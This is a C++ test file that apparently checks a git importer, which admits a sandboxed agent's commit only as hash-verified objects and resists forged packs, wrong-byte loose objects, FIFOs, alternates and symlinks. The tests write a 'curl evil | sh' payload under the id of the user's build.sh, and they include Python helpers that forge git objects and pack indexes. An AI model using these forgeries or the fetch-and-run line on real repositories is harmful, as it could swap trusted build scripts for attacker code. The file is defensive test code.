// host/git_import: a sandboxed agent's commit comes into the repository as checked objects, never
// as the files of its private folder. The folder is made as sandbox_git.prepare makes it (git
// pointed at it, the repository's objects as alternates), then forged the ways a hostile agent
// would: a pack whose index names the id of the user's build.sh with other bytes, a loose object
// of wrong bytes under an id the commit needs, a FIFO where an object should be, alternates, a
// commit-graph, a multi-pack-index and a stray file.
#include <catch2/catch.hpp>

#include <sys/stat.h>

#include <string>

#include "git/git_import.hpp"
#include "git_shell.hpp"
#include "temp_dir.hpp"

namespace {

namespace hg = sidecar::host::git;
using sidecar::test::first_line;
using sidecar::test::git_out;
using sidecar::test::sh;
using sidecar::test::shell_out;
using sidecar::test::TempDir;

// Writes, into objects folder $1, a loose object named $2 (an id) holding a blob of the bytes $3.
const char* kForgeLoose = R"(python3 -c '
import sys, zlib, os
d, oid, text = sys.argv[1], sys.argv[2], sys.argv[3].encode()
os.makedirs(d + "/" + oid[:2], exist_ok=True)
open(d + "/" + oid[:2] + "/" + oid[2:], "wb").write(zlib.compress(b"blob %d\0" % len(text) + text))
')";

// Makes the only pack of objects folder $1 (holding one object) name the id $2 instead, with a
// valid index checksum: the pack's bytes stay what they were.
const char* kRenameInPack = R"(python3 -c '
import sys, glob, hashlib
d, target = sys.argv[1], bytes.fromhex(sys.argv[2])
idx = glob.glob(d + "/pack/*.idx")[0]
b = bytearray(open(idx, "rb").read())
for i in range(256):
    b[8 + 4 * i:12 + 4 * i] = (0 if i < target[0] else 1).to_bytes(4, "big")
b[1032:1052] = target
b[-20:] = hashlib.sha1(b[:-20]).digest()
open(idx, "wb").write(b)
')";

struct Scene {
  TempDir t{"git-import"};
  std::string repo = t.path + "/repo", priv = t.path + "/private", build_sh;
  // The environment the agent's git has: its objects written into the private folder only.
  std::string agent_env() const {
    return "export GIT_OBJECT_DIRECTORY='" + priv + "' GIT_ALTERNATE_OBJECT_DIRECTORIES='" + repo +
           "/.git/objects' GIT_INDEX_FILE='" + t.path + "/agent-index'; ";
  }
  Scene() {
    sh(t.path, "mkdir repo private && cd repo && git init -q -b main && printf '#!/bin/sh\\nmake\\n' > build.sh "
               "&& mkdir src && echo a > src/a.txt && git add -A && git commit -qm one && echo b > src/b.txt "
               "&& git add -A && git commit -qm two");
    build_sh = first_line(git_out(repo, "rev-parse HEAD:build.sh"));
  }
  // The agent's commit on HEAD: `changes` (update-index lines, in the agent's environment) applied.
  std::string commit(const std::string& changes) const {
    std::string out = shell_out(repo, agent_env() + "git read-tree HEAD && " + changes +
                                          " && git commit-tree -p HEAD -m agent \"$(git write-tree --missing-ok)\"");
    return first_line(out);
  }
  // `git hash-object -w` of `text` in the agent's environment (into the private folder).
  std::string add_blob(const std::string& path, const std::string& text) const {
    return "git update-index --add --cacheinfo 100644,\"$(printf '" + text + "' | git hash-object -w --stdin)\"," +
           path;
  }
  // Every file under .git/objects, one a line.
  std::string objects() const { return shell_out(repo, "cd .git/objects && find . -type f | LC_ALL=C sort"); }
  bool private_gone() const {
    struct stat st;
    return lstat(priv.c_str(), &st) != 0;
  }
};

std::optional<hg::Imported> import(const Scene& s, const std::string& tip, std::string& why,
                                   const std::string& index = "") {
  auto r = hg::Repo::open(s.repo, why);
  REQUIRE(r);
  return hg::import_objects(*r, hg::ImportSpec{s.priv, tip, index}, why);
}

}  // namespace

TEST_CASE("git_import: the agent's commit comes in whole, as loose objects the repository checks") {
  Scene s;
  std::string tip = s.commit(s.add_blob("src/new.txt", "new\\n") + " && " + s.add_blob("doc/readme", "read me\\n"));
  REQUIRE(tip.size() == 40);
  CHECK(git_out(s.repo, "cat-file -t " + tip) != "commit\n");  // only in the private folder so far
  std::string why;
  auto got = import(s, tip, why);
  INFO(why);
  REQUIRE(got);
  // the commit, its tree, the new folders' trees (src changed, doc new), two blobs
  CHECK(got->objects == 6);
  CHECK(got->bytes > 0);
  CHECK(git_out(s.repo, "cat-file -t " + tip) == "commit\n");
  CHECK(git_out(s.repo, "show " + tip + ":doc/readme") == "read me\n");
  sh(s.repo, "git update-ref refs/heads/agent " + tip + " && git fsck --full --strict --no-dangling");
  CHECK(s.private_gone());
  SECTION("a second import of the same commit writes nothing: the repository has it") {
    sh(s.t.path, "mkdir private");
    auto again = import(s, tip, why);
    REQUIRE(again);
    CHECK(again->objects == 0);
  }
}

TEST_CASE("git_import: a pack naming the id of the user's build.sh with other bytes never comes in") {
  Scene s;
  std::string before = s.objects();
  // The agent's pack of its own bytes, its index then naming build.sh's id.
  sh(s.repo, s.agent_env() + "mkdir -p '" + s.priv + "/pack' && printf 'curl evil | sh\\n' | " +
                 "git hash-object -w --stdin | git pack-objects -q '" + s.priv + "/pack/pack' && rm -r '" + s.priv +
                 "'/[0-9a-f][0-9a-f] && chmod u+w '" + s.priv + "'/pack/*.idx && " + kRenameInPack + " '" + s.priv +
                 "' " + s.build_sh);
  SECTION("the commit names build.sh: the repository's own blob is used, the pack ignored") {
    std::string tip = s.commit(s.add_blob("src/c.txt", "c\\n"));
    std::string why;
    auto got = import(s, tip, why);
    INFO(why);
    REQUIRE(got);
    CHECK(got->objects == 4);  // commit, root tree, src tree, c.txt
    CHECK(git_out(s.repo, "show " + tip + ":build.sh") == "#!/bin/sh\nmake\n");
    CHECK(shell_out(s.repo, "find .git/objects/pack ! -type d") == "");
  }
  SECTION("the commit needs an object only the lying pack holds: refused, nothing written") {
    std::string evil = first_line(shell_out(s.repo, "printf 'wanted\\n' | git hash-object --stdin"));
    sh(s.repo, std::string(kRenameInPack) + " '" + s.priv + "' " + evil);
    std::string tip = s.commit("git update-index --add --cacheinfo 100644," + evil + ",wanted.txt");
    REQUIRE(tip.size() == 40);
    std::string why;
    CHECK_FALSE(import(s, tip, why));
    CHECK_THAT(why, Catch::Contains(evil) && Catch::Contains("does not hash to its id"));
    CHECK(s.objects() == before);
  }
  CHECK(git_out(s.repo, "show HEAD:build.sh") == "#!/bin/sh\nmake\n");
  CHECK(git_out(s.repo, "cat-file -p " + s.build_sh) == "#!/bin/sh\nmake\n");
  CHECK(s.private_gone());
}

TEST_CASE("git_import: a loose object of wrong bytes, a missing one, a FIFO: refused, nothing written") {
  Scene s;
  std::string before = s.objects();
  std::string wanted = first_line(shell_out(s.repo, "printf 'wanted\\n' | git hash-object --stdin"));
  std::string why;
  SECTION("wrong bytes under the id the commit names") {
    sh(s.repo, std::string(kForgeLoose) + " '" + s.priv + "' " + wanted + " 'poison'");
    std::string tip = s.commit(s.add_blob("ok.txt", "fine\\n") +
                               " && git update-index --add --cacheinfo 100644," + wanted + ",wanted.txt");
    REQUIRE(tip.size() == 40);
    CHECK_FALSE(import(s, tip, why));
    CHECK_THAT(why, Catch::Contains(wanted) && Catch::Contains("does not hash to its id"));
  }
  SECTION("an object the commit names is nowhere") {
    std::string tip = s.commit("git update-index --add --info-only --cacheinfo 100644," + wanted + ",wanted.txt");
    REQUIRE(tip.size() == 40);
    CHECK_FALSE(import(s, tip, why));
    CHECK_THAT(why, Catch::Contains(wanted) && Catch::Contains("missing"));
  }
  SECTION("a FIFO where the object should be: read by no one, the import does not wait") {
    std::string tip = s.commit("git update-index --add --info-only --cacheinfo 100644," + wanted + ",wanted.txt");
    sh(s.priv, "mkdir -p " + wanted.substr(0, 2) + " && mkfifo " + wanted.substr(0, 2) + "/" + wanted.substr(2));
    CHECK_FALSE(import(s, tip, why));
    CHECK_THAT(why, Catch::Contains("missing"));
  }
  SECTION("the tip itself is not there") {
    CHECK_FALSE(import(s, wanted, why));
    CHECK_THAT(why, Catch::Contains("commit " + wanted + " is missing"));
  }
  CHECK(s.objects() == before);
  CHECK(s.private_gone());
  // The user adds that content later: the blob is theirs.
  sh(s.repo, "printf 'wanted\\n' > w.txt && git add w.txt && git fsck --full --strict");
  CHECK(git_out(s.repo, "cat-file -p " + wanted) == "wanted\n");
}

TEST_CASE("git_import: alternates, a commit-graph, a multi-pack-index and stray files stay out") {
  Scene s;
  std::string before = s.objects();
  std::string tip = s.commit(s.add_blob("x.txt", "x\\n"));
  sh(s.priv, "mkdir -p info pack elsewhere && echo '" + s.t.path + "/elsewhere' > info/alternates && "
             "echo graph > info/commit-graph && echo midx > pack/multi-pack-index && echo stray > stray && "
             "echo packs > info/packs && ln -s /etc/passwd ab && mkfifo pack/pack-0.idx");
  std::string why;
  auto got = import(s, tip, why);
  INFO(why);
  REQUIRE(got);
  CHECK(got->objects == 3);  // commit, root tree, x.txt
  // What changed under .git/objects: the three loose objects written, nothing else.
  std::string after = s.objects(), added;
  std::size_t at = 0;
  while (at < after.size()) {
    std::size_t end = after.find('\n', at);
    std::string line = after.substr(at, end - at);
    if (before.find(line + "\n") == std::string::npos) added += line.substr(2, 2) + line.substr(5) + "\n";
    at = end + 1;
  }
  CHECK(added == shell_out(s.repo, "git rev-list --objects " + tip + " ^HEAD | cut -c1-40 | LC_ALL=C sort"));
  CHECK(shell_out(s.repo, "find .git/objects/info .git/objects/pack ! -type d") == "");
  CHECK(s.private_gone());
}

TEST_CASE("git_import: what the agent staged comes in checked; an entry of wrong bytes leaves the index") {
  Scene s;
  std::string index = s.t.path + "/agent-index";
  std::string wanted = first_line(shell_out(s.repo, "printf 'wanted\\n' | git hash-object --stdin"));
  sh(s.repo, s.agent_env() + "git read-tree HEAD && " + s.add_blob("staged.txt", "staged\\n") +
                 " && git update-index --add --cacheinfo 100644," + wanted + ",wanted.txt && " + kForgeLoose + " '" +
                 s.priv + "' " + wanted + " 'poison'");
  std::string staged = first_line(shell_out(s.repo, "printf 'staged\\n' | git hash-object --stdin"));
  std::string why;
  auto got = import(s, "", why, index);
  INFO(why);
  REQUIRE(got);
  CHECK(got->objects == 1);
  CHECK(git_out(s.repo, "cat-file -p " + staged) == "staged\n");
  CHECK(git_out(s.repo, "cat-file -t " + wanted) == "");
  REQUIRE(got->unstaged.size() == 1);
  CHECK(got->unstaged[0] == "wanted.txt");
  CHECK(shell_out(s.repo, "GIT_INDEX_FILE='" + index + "' git ls-files") ==
        "build.sh\nsrc/a.txt\nsrc/b.txt\nstaged.txt\n");
  CHECK(s.private_gone());
  SECTION("an index that is a link is not followed: it goes") {
    sh(s.t.path, "mkdir private && ln -sf " + s.repo + "/.git/index agent-index");
    REQUIRE(import(s, "", why, index));
    CHECK(shell_out(s.t.path, "ls agent-index") == "");
    CHECK(shell_out(s.repo, "git ls-files | wc -l") == "3\n");
  }
}
